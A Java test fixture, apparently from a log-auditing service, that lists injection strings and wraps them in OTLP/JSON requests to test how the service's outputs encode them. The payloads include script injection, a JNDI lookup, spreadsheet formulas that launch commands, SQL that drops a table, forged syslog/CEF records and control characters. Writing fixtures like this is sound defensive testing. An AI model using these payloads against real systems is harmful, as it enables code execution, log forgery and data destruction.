package io.trailwarden;

import io.trailwarden.event.Field;
import io.trailwarden.event.FieldCatalogue;
import java.util.ArrayList;
import java.util.List;

/// Texts that a client may send to hurt whoever reads them: a page, a terminal, a spreadsheet, a SIEM.
///
/// One list for every way out of the trail, so that what one has learnt protects the others.
///
/// @param name which kind it is, for the names of tests
/// @param text the text itself
public record Hostile(String name, String text) {

    /// What nearly each text below holds somewhere, so that a search for it shows where they got to.
    public static final String MARK = "tw-hostile";

    /// Most bytes of attributes in one request, twice of which stays under what the door takes.
    private static final int ATTRIBUTES_OF_A_REQUEST = 4_000_000;

    /// Every kind.
    public static List<Hostile> all() {
        return List.of(
                new Hostile("markup", MARK + "<img src=x onerror=alert(1)><b>bold</b>&lt;i&gt;"),
                new Hostile("script", MARK + "</script><script>window.hostile=1</script>"),
                new Hostile("attribute", MARK + "\" onmouseover=\"window.hostile=1\" x='"),
                new Hostile("template", MARK + "{{7*7}} ${7*7} #{7*7} %7B ${jndi:ldap://192.0.2.1/a}"),
                new Hostile("link", MARK + " javascript:window.hostile=1 https://evil.example/?q=[x](javascript:alert(1))"),
                new Hostile("ansi", MARK + "\u001b[2J\u001b[1;31mred\u001b]0;title\u0007\u009b31m"),
                new Hostile("bidirectional", MARK + "\u202egpj.exe\u202c \u2066hidden\u2069 \u200f\u061c"),
                new Hostile("invisible", MARK + "a\u200bb\u00adc\ufeffd\u2060e\udb40\udc01\ue000"),
                new Hostile("formula", "=cmd|'/c calc'!A0," + MARK),
                new Hostile("formula-at", "@SUM(1+1)*" + MARK),
                new Hostile("formula-minus", "-2+3+cmd|' /C calc'!" + MARK),
                new Hostile("newline", MARK + "\r\n<34>1 2026-11-02T12:00:00Z forged trailwarden - - - forged\nCEF:0|a|b|c|d|e|10|"),
                new Hostile("separators", MARK + "\u2028line\u2029paragraph\u0085next"),
                new Hostile("nul", MARK + "\u0000after\u0001\u0008\u000b\u000c\u001f\u007f"),
                new Hostile("tab", "\t" + MARK + "\tx\t"),
                new Hostile("cef", MARK + "|pipe|\\|back\\\\slash\\ act=forged cs1=forged\\=x \\n \\r trailing\\"),
                new Hostile("cef-key", "x msg=" + MARK + " externalId=0 cs1Label=forged suser=root "),
                new Hostile("structured-data", MARK + "\"] [forged@1 a=\"b\"] \\] \\\" ]"),
                new Hostile("json", MARK + "\",\"event.name\":\"forged\",\"x\":\"\\u0000\\"),
                new Hostile("sql", MARK + "'; drop table event; -- $$"),
                new Hostile("lone-high", MARK + "\ud800x"),
                new Hostile("lone-low", "\udc00" + MARK),
                new Hostile("swapped", MARK + "\udc00\ud800"),
                new Hostile("non-characters", MARK + "\ufffe\uffff\ud83f\udfff"),
                new Hostile("marks", MARK + "z" + "\u0335".repeat(200)),
                new Hostile("emoji", MARK + "\ud83d\udc69\u200d\ud83d\udcbb\ud83c\uddf5\ud83c\uddf1"),
                new Hostile("blank", "   "),
                new Hostile("trailing-space", MARK + "   "),
                new Hostile("long-line", MARK + "x".repeat(60_000)),
                new Hostile("long-quotes", MARK + "\"\\]|=\n".repeat(10_000)),
                new Hostile("long-wide", MARK + "\ud83d\ude00".repeat(15_000)),
                new Hostile("long-controls", MARK + "\u0000\u001b".repeat(15_000)));
    }

    /// Names of every attribute that the client may send, those that say who and what excepted: a record keeps these to be
    /// told from others.
    public static List<String> attributes() {
        return FieldCatalogue.all().stream().filter(field -> !field.ours()).map(Field::name)
                .filter(name -> !List.of("event.name", "event.sequence", "event.timestamp", "session.id", "service.name").contains(name)).toList();
    }

    /// OTLP/JSON requests with log records called `event` that between them carry this text as every attribute, of the record
    /// and of its resource. One request for a short text; a long one takes several, as the door bounds a request.
    ///
    /// @param sequence of the first record; the others count on, to be told apart
    /// @param time nanoseconds since 1970
    public List<String> asRequests(String event, String session, long sequence, long time) {
        var quoted = quoted(text);
        var requests = new ArrayList<String>();
        var left = attributes();
        while (!left.isEmpty()) {
            int count = Math.min(left.size(), Math.max(1, ATTRIBUTES_OF_A_REQUEST / quoted.length()));
            requests.add(request(event, session, sequence + requests.size(), time, quoted, left.subList(0, count)));
            left = left.subList(count, left.size());
        }
        return requests;
    }

    private static String request(String event, String session, long sequence, long time, String quoted, List<String> names) {
        var attributes = new StringBuilder();
        names.forEach(name -> attributes.append(",{\"key\":").append(quoted(name)).append(",\"value\":{\"stringValue\":").append(quoted).append("}}"));
        return """
                {"resourceLogs":[{"resource":{"attributes":[{"key":"service.name","value":{"stringValue":"claude-code"}}%s]},\
                "scopeLogs":[{"scope":{"name":"com.anthropic.claude_code.events","version":"2.1.329"},"logRecords":[{\
                "timeUnixNano":"%d","body":{"stringValue":%s},"attributes":[{"key":"event.name","value":{"stringValue":%s}},\
                {"key":"session.id","value":{"stringValue":%s}},{"key":"event.sequence","value":{"intValue":%d}}%s]}]}]}]}"""
                .formatted(attributes, time, quoted, quoted(event), quoted(session), sequence, attributes);
    }

    /// ASCII JSON, so that lone surrogates reach the other side as they are.
    private static String quoted(String text) {
        var out = new StringBuilder("\"");
        for (int i = 0; i < text.length(); i++) {
            char c = text.charAt(i);
            if (c == '"' || c == '\\') {
                out.append('\\').append(c);
            } else if (c < 0x20 || c > 0x7e) {
                out.append("\\u%04x".formatted((int) c));
            } else {
                out.append(c);
            }
        }
        return out.append('"').toString();
    }

    @Override
    public String toString() {
        return name;
    }
}
